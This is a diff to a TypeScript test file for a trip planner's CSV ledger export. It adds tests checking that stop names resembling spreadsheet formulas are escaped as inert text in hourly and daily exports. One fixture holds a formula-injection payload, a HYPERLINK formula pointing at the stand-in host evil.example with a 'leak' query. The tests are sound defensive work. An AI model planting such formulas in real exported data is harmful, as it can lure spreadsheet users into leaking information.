@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { editForFix } from '@/components/budget/apply-fix';
 import { applyWhatIf, rigWithExtraSolar } from '@/components/budget/what-if';
-import { filterLedger, ledgerCsv } from '@/components/ledger/ledger-csv';
+import { daysCsv, filterLedger, ledgerCsv } from '@/components/ledger/ledger-csv';
 import { DEMO_TRIPS, simulateTrip } from '@/shared/engine';
 import type { Fix } from '@/shared/engine/result-types';
 import { toEngineInput } from '@/shared/trip-to-engine-input';
@@ -90,11 +90,32 @@ describe('ledger export', () => {
     const rows = filterLedger(result.ledger, { stopIndex: 1, shortOnly: false });
     expect(rows.every((r) => r.where.kind === 'stop' && r.where.stopIndex === 1)).toBe(true);
   });
-  it('when names carry commas or start like a formula, then the CSV quotes them', () => {
-    const csv = ledgerCsv(result.ledger.slice(0, 2), ['Loch, north shore', '=cmd']);
+  const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak","Click")';
+  const INERT_NAME = `"'=HYPERLINK(""http://evil.example/?leak"",""Click"")"`;
+  const stopNames = (first: string) => detail.stops.map((s, i) => (i === 0 ? first : s.stop.name));
+
+  it('when names carry commas, then the CSV quotes them', () => {
+    const csv = ledgerCsv(result.ledger.slice(0, 2), stopNames('Loch, north shore'));
     const lines = csv.trim().split('\r\n');
     expect(lines).toHaveLength(3);
     expect(lines[1]).toContain('"Loch, north shore"');
+  });
+  it('when a stop is named like a formula, then the hourly CSV writes it as inert text', () => {
+    const csv = ledgerCsv(result.ledger.slice(0, 2), stopNames(FORMULA_NAME));
+    const row = csv.split('\r\n')[1] ?? '';
+    expect(row).toContain(`,${INERT_NAME},`);
+    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
+  });
+  it('when a stop is named like a formula, then the daily CSV writes it as inert text and figures stay numbers', () => {
+    const csv = daysCsv(result.days, stopNames(FORMULA_NAME));
+    const [header, firstDay] = csv.split('\r\n');
+    expect(header?.split(',').slice(0, 3)).toEqual(['date', 'travel day', 'stops']);
+    expect(firstDay).toContain(`,${INERT_NAME},`);
+    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
+    const negativeNet = result.days.find((d) => d.netWh < 0);
+    if (!negativeNet) throw new Error('the demo trip has a day that uses more than it harvests');
+    expect(csv).toContain(`,${Math.round(negativeNet.netWh * 10) / 10},`);
+    expect(csv).not.toContain(",'-");
   });
 });
 
